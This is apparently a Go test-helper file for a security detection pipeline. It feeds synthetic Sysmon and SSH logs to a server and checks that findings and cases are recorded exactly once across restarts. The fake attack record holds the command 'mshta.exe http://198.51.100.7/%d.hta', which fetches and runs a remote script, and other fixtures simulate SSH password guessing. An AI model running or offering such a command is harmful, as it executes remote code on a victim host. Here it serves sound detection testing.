// SPDX-FileCopyrightText: 2026 The Gambeson Authors
// SPDX-License-Identifier: Apache-2.0

package app

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"gambeson/bus"
	"gambeson/bus/jetstream"
	"gambeson/cases"
	"gambeson/event"
	"gambeson/pipeline"
	"gambeson/state"
)

// attack is a record that one of the own rules finds; attacks on a host are one case.
func attack(i int) string {
	n := i % attackHosts
	return attackOn(fmt.Sprintf("ws%d", n), fmt.Sprintf("m.weber%d", n), i)
}

// attackOn is such a record about a host and a user.
func attackOn(host, user string, i int) string {
	return fmt.Sprintf(`{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon",`+
		`"Hostname":"%s.corp.example","UtcTime":"2026-03-02 09:14:%02d","Image":"C:\\Windows\\System32\\mshta.exe",`+
		`"CommandLine":"mshta.exe http://198.51.100.7/%d.hta","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\%s"}`, host, i%60, i, user)
}

const (
	attackHosts = 4
	guesses     = 20 // failed sign-ins on a host, and the success behind them
)

// parcel is what request i of the tests sends: an attack, a guess at a password, of which twenty make a finding with
// state, and something that cannot be read. The times of all lie within the bound for lateness, so that their order
// changes nothing.
func parcel(i int) []string {
	host, at := i/guesses, i%guesses
	said := "Failed"
	if at == guesses-1 {
		said = "Accepted"
	}
	when := time.Date(2026, 3, 2, 9, 14, 20*at, 0, time.UTC).Format("2006-01-02T15:04:05.000Z")
	guess := fmt.Sprintf("%s vpn%d sshd[900]: %s password for user%d from 203.0.113.%d port 40022 ssh2", when, host, said, host, host%250)
	return []string{attack(i), guess, fmt.Sprintf(`{"EventID":%d,`, i)}
}

// later is a record that moves event time on, so that everything before it is judged.
const later = "2026-03-03T12:00:00.000Z vpn0 sshd[901]: Accepted publickey for mara from 198.51.100.9 port 40022 ssh2"

// outcome is what a run came to. Findings are named by their rule and the number in what they found, and by their id
// where the ids of the events are the sender's.
type outcome struct {
	Events   int                 // distinct ids of those that rules found
	Findings map[string]int      // how often each was made
	Cases    map[string][]string // findings, by the one that opened the case
	Letters  int
}

// outcome waits until everything in the log is dealt with, and reads what is kept. The server is stopped.
func (s *server) outcome() outcome {
	s.t.Helper()
	left := ""
	for i := range 12 {
		s.stop()
		left = s.left()
		if left == "" {
			s.once()
			return s.kept()
		}
		s.start()
		time.Sleep(time.Duration(i+1) * 500 * time.Millisecond) // a stop lets go of the batch that is under way
	}
	s.t.Fatalf("something is never dealt with: %s", left)
	return outcome{}
}

// left says what a server that was stopped has still to deal with.
func (s *server) left() string {
	s.t.Helper()
	log := s.openLog()
	defer log.Close()
	all, err := log.Stats(s.t.Context())
	if err != nil {
		s.t.Fatal(err)
	}
	db := s.open()
	defer db.Close()
	for _, shard := range all {
		var done bus.Position
		switch shard.Shard.Stream {
		case bus.Finding:
			done = s.position(db, state.Correlator)
		case bus.DeadLetter:
			done = s.position(db, "deadletters")
		default:
			if done, err = log.Committed(s.t.Context(), pipeline.Group, shard.Shard); err != nil {
				s.t.Fatal(err)
			}
		}
		if done < shard.Last {
			return fmt.Sprintf("%s ends at %d, %d is done", shard.Shard, shard.Last, done)
		}
	}
	return ""
}

func (s *server) openLog() *jetstream.Log {
	s.t.Helper()
	log, err := jetstream.Open(filepath.Join(s.data, "log"), jetstream.Deps{Log: slog.New(slog.DiscardHandler)}, s.Bus)
	if err != nil {
		s.t.Fatal(err)
	}
	return log
}

// once checks that the log has each finding once, before the state has dropped what it knew.
func (s *server) once() {
	s.t.Helper()
	log := s.openLog()
	defer log.Close()
	all, err := log.Stats(s.t.Context())
	if err != nil {
		s.t.Fatal(err)
	}
	seen := map[event.ID]bus.Position{}
	for _, shard := range all {
		for after := shard.First - 1; shard.Shard.Stream == bus.Finding && after < shard.Last; {
			messages, err := log.Read(s.t.Context(), shard.Shard, after, 4<<20)
			if err != nil {
				s.t.Fatal(err)
			}
			for _, m := range messages {
				after = m.Position
				found, err := pipeline.ParseFound(m.Body)
				if err != nil {
					s.t.Fatal(err)
				}
				for _, f := range found.Findings {
					if at := seen[f.ID]; at > 0 {
						s.t.Errorf("finding %s is in the log twice: at %d and %d", f.ID, at, m.Position)
					}
					seen[f.ID] = m.Position
				}
			}
		}
	}
}

func (s *server) position(db *state.DB, consumer string) bus.Position {
	s.t.Helper()
	cp, err := db.Checkpoints.Position(s.t.Context(), consumer, 0)
	if err != nil && !errors.Is(err, state.ErrNotFound) {
		s.t.Fatal(err)
	}
	return bus.Position(cp.Position)
}

func (s *server) open() *state.DB {
	s.t.Helper()
	db, err := state.Open(s.t.Context(), state.Deps{}, filepath.Join(s.data, stateFolder))
	if err != nil {
		s.t.Fatal(err)
	}
	return db
}

// kept reads the state.
func (s *server) kept() outcome {
	s.t.Helper()
	db := s.open()
	defer db.Close()
	out := outcome{Findings: map[string]int{}, Cases: map[string][]string{}}
	var found []cases.Finding
	pages(s.t, func(ctx context.Context, after state.Cursor) (next state.Cursor, err error) {
		page, next, err := db.Findings.List(ctx, state.FindingFilter{Tenant: "default"}, state.NewestFirst, after, 500)
		found = append(found, page...)
		return next, err
	})
	pages(s.t, func(ctx context.Context, after state.Cursor) (next state.Cursor, err error) {
		page, next, err := db.DeadLetters.List(ctx, state.DeadLetterFilter{Tenant: "default", After: after, Limit: 500})
		out.Letters += len(page)
		return next, err
	})
	events, names := map[string]event.ID{}, map[event.ID]string{}
	for i := range found {
		f := &found[i]
		name := findingName(f)
		names[f.ID] = name
		out.Findings[name]++
		if f.Analytic.Type != event.AnalyticRule || numberOf(f) < 0 {
			continue
		}
		number := strconv.Itoa(numberOf(f))
		if id, known := events[number]; known && id != f.Evidence[0].Event {
			s.t.Errorf("record %s is two events: %s and %s", number, id, f.Evidence[0].Event)
		}
		events[number] = f.Evidence[0].Event
	}
	out.Events = len(events)
	for i := range found {
		opener := names[found[i].Case]
		out.Cases[opener] = append(out.Cases[opener], names[found[i].ID])
	}
	for _, members := range out.Cases {
		slices.Sort(members)
	}
	return out
}

// pages reads all pages.
func pages(t testing.TB, page func(context.Context, state.Cursor) (state.Cursor, error)) {
	t.Helper()
	var at state.Cursor
	for {
		next, err := page(t.Context(), at)
		if err != nil {
			t.Fatal(err)
		}
		if next == (state.Cursor{}) {
			return
		}
		at = next
	}
}

// numberOf returns which attack a finding is of, -1 if none.
func numberOf(f *cases.Finding) int {
	m := regexp.MustCompile(`/(\d+)\.hta`).FindStringSubmatch(f.Message)
	if m == nil {
		return -1
	}
	n, err := strconv.Atoi(m[1])
	if err != nil {
		return -1
	}
	return n
}

// findingName names a finding so that it is the same in another run.
func findingName(f *cases.Finding) string {
	n := numberOf(f)
	switch {
	case f.Analytic.Type == event.AnalyticBehavioral, n >= 0 && ways()[wayOf(n)].keyed:
		return f.Analytic.Name + " " + f.ID.String()
	default:
		return fmt.Sprintf("%s %d", f.Analytic.Name, n)
	}
}

// wayOf says over which way parcel i goes: the first ones over the same, so that it is certain which opens a case.
func wayOf(i int) int {
	if i < attackHosts {
		return 0
	}
	return i % len(ways())
}

// same compares two runs.
func same(t testing.TB, undisturbed, got outcome) {
	t.Helper()
	if d := cmp.Diff(undisturbed, got); d != "" {
		t.Errorf("not as undisturbed (-undisturbed +got):\n%.4000s", d)
	}
}

// undisturbed sends n parcels to a server that nothing happens to.
func undisturbed(t testing.TB, n int) outcome {
	t.Helper()
	s := newServer(t)
	s.start()
	s.insist(0, n)
	return s.finish(n)
}

// finish moves event time on, and compares the outcome with what n parcels must come to, and so many dead letters more.
func (s *server) finish(n int, more ...int) outcome {
	s.t.Helper()
	s.sender(ways()[0]).insist("later", later)
	got := s.outcome()
	behavior, letters := n/guesses, n
	for _, m := range more {
		letters += m
	}
	if got.Events != n || got.Letters != letters || len(got.Findings) < n+behavior || len(got.Cases) < attackHosts+behavior {
		s.t.Errorf("%d events found, %d dead letters, %d findings, %d cases; %d parcels were acknowledged", got.Events, got.Letters, len(got.Findings), len(got.Cases), n)
	}
	return got
}
